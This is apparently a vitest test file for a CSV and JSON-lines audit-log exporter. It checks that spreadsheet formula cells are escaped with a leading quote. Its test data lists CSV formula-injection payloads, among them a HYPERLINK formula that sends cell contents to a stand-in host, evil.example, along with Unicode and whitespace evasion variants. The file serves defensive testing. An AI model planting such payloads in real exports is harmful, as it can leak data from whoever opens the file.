import { Readable } from "node:stream";
import { buffer, text } from "node:stream/consumers";
import { beforeAll, describe, expect, test } from "vitest";
import { AuditEvents } from "../../src/audit/audit-events.ts";
import { ChangeStore } from "../../src/audit/change-store.ts";
import { exportCsv, exportJsonLines } from "../../src/audit/readable-export.ts";
import type { Database } from "../../src/database/database.ts";
import { openTestDatabase } from "../support/open-test-database.ts";
import { APPLIED, FRESH, intentOf } from "./intent-of.ts";

const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1+1",
  "\u200b=1",
  "＝1+1",
  "＠SUM(1)",
];
const HARMLESS = ["Zoë 手机 🔐", 'a "quoted", text', "two\nlines", "a=b", "1-2", ""];

let database: Database;
let ids: string[];

beforeAll(async () => {
  database = await openTestDatabase("postgres");
  const log = new ChangeStore({ database, replica: "replica-1" });
  ids = [];
  for (const reason of [...FORMULAS, ...HARMLESS]) {
    const caller = { subject: reason || "empty", client: undefined, issuer: undefined };
    const { id } = await log.begin(intentOf({ reason, caller, account: "prod" }), FRESH);
    await log.settle(id, APPLIED);
    ids.push(id);
  }
  await new AuditEvents(database).record([
    { kind: "refusal", subject: "=mallory", details: { code: "FORBIDDEN", opUin: "42" } },
  ]);
  await log.begin(intentOf({ opUin: "42" as never }), FRESH);
});

async function csvRows(filter = {}): Promise<string[][]> {
  const csv = await buffer(Readable.from(exportCsv(database.db, filter)));
  // Spreadsheets need the byte order mark.
  expect(csv.subarray(0, 3)).toEqual(Buffer.from("\uFEFF"));
  return parseCsv(csv.subarray(3).toString());
}

/** Reads CSV as RFC 4180 has it. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = "", end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== ",") rows.push([]);
  }
  return rows.slice(0, -1);
}

async function jsonRows(filter = {}): Promise<Record<string, unknown>[]> {
  const lines = (await text(Readable.from(exportJsonLines(database.db, filter)))).split("\n");
  expect(lines.pop()).toBe("");
  return lines.map((line) => JSON.parse(line) as Record<string, unknown>);
}

describe("CSV", () => {
  test("has a row for each change and event, oldest first, and no cell that a spreadsheet runs", async () => {
    const [header = [], ...rows] = await csvRows();
    expect(rows.map((row) => row.length)).toEqual(rows.map(() => header.length));
    const cell = (row: readonly string[], name: string) => row[header.indexOf(name)];
    expect(rows.map((row) => cell(row, "id")).slice(0, ids.length)).toEqual(ids);
    expect(rows.slice(0, ids.length).map((row) => cell(row, "reason"))).toEqual([
      ...FORMULAS.map((formula) => `'${formula}`),
      ...HARMLESS,
    ]);
    expect(cell(rows[0] ?? [], "callerSubject")).toBe(`'${FORMULAS[0]}`);
    expect(rows.flat().filter((value) => /^[=+\-@\t\r\n]/.test(value))).toEqual([]);
    const [refusal = [], open = []] = rows.slice(ids.length);
    expect(["kind", "callerSubject", "code", "opUin", "chain"].map((name) => cell(refusal, name))).toEqual([
      ...["refusal", "'=mallory", "FORBIDDEN", "42", "gateway"],
    ]);
    // A change that is not sealed has no place in a chain yet.
    expect(["kind", "status", "chain", "seq", "hash"].map((name) => cell(open, name))).toEqual([
      ...["change", "pending", "", "", ""],
    ]);
    expect(JSON.parse(cell(rows[0] ?? [], "sent") ?? "")).toEqual(intentOf().sent);
  });
});

describe("JSON lines", () => {
  test("have one object a line with the same names in each", async () => {
    const rows = await jsonRows();
    expect(rows).toHaveLength(ids.length + 2);
    const [header = []] = await csvRows();
    for (const row of rows) expect(Object.keys(row)).toEqual(header);
    expect(rows[0]).toMatchObject({ kind: "change", status: "applied", reason: FORMULAS[0], seq: 1 });
    expect(rows[ids.length]).toMatchObject({ kind: "refusal", callerSubject: "=mallory", reason: null });
  });

  test("can be filtered by user, account, id and time", async () => {
    expect((await jsonRows({ opUin: "42" })).map(({ kind }) => kind)).toEqual(["refusal", "change"]);
    expect(await jsonRows({ account: "prod" })).toHaveLength(ids.length);
    expect((await jsonRows({ id: ids[3] })).map(({ id }) => id)).toEqual([ids[3]]);
    const [, second, third] = await jsonRows();
    const from = new Date(Date.parse(String(second?.["at"])));
    const until = new Date(Date.parse(String(third?.["at"])) + 60_000);
    expect((await jsonRows({ from, account: "prod" })).length).toBeGreaterThanOrEqual(ids.length - 1);
    expect(await jsonRows({ from: until })).toEqual([]);
    expect(await jsonRows({ until: new Date(0) })).toEqual([]);
    expect(await jsonRows({ from, until })).not.toEqual([]);
  });
});
